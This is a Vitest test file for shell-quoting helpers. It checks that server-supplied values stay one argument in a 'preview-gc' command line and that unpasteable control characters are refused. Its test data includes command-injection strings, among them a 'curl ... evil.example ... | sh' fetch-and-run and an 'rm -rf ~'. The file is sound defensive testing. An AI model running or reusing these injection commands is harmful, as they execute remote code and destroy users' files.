import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { shellCommand, shellWord } from '../../src/text/shell.ts';

/** What sh makes of a command line: its words, one a line (printf runs no argument). */
function wordsOf(line: string): string[] {
  const out = execFileSync('sh', ['-c', `set -- ${line}; printf '%s\\0' "$@"`], { encoding: 'utf8' });
  return out.split('\0').slice(0, -1);
}

describe('shellWord / shellCommand: a value from a server stays one argument', () => {
  it.each([
    'preview-3',
    '6f1c0e0e-8a57-4a53-9d8e-2f7c5f0f9a10',
    '6f1c…; curl -s https://evil.example/p.sh | sh; #',
    'preview-1 && rm -rf ~',
    'it\'s $(whoami) `id` ${HOME} "quoted" \\',
    '=ls',
    '~root',
    '-rf',
    '*',
  ])('%j', (value) => {
    const line = shellCommand(['preview-gc', 'release', '--slot', value]);
    expect(line).not.toBeNull();
    expect(wordsOf(line ?? '')).toEqual(['preview-gc', 'release', '--slot', value]);
  });

  it('leaves plain words as they are', () => {
    expect(shellCommand(['preview-gc', 'release', '--slot', 'preview-3'])).toBe(
      'preview-gc release --slot preview-3',
    );
  });

  it.each(['preview-1\n::warning::x', 'a\u001b[31m', 'a\u202etxt.exe', 'a\u2028b', 'pr-16\u3164'])(
    'refuses what cannot be pasted: %j',
    (value) => {
      expect(shellWord(value)).toBeNull();
      expect(shellCommand(['preview-gc', value])).toBeNull();
    },
  );
});
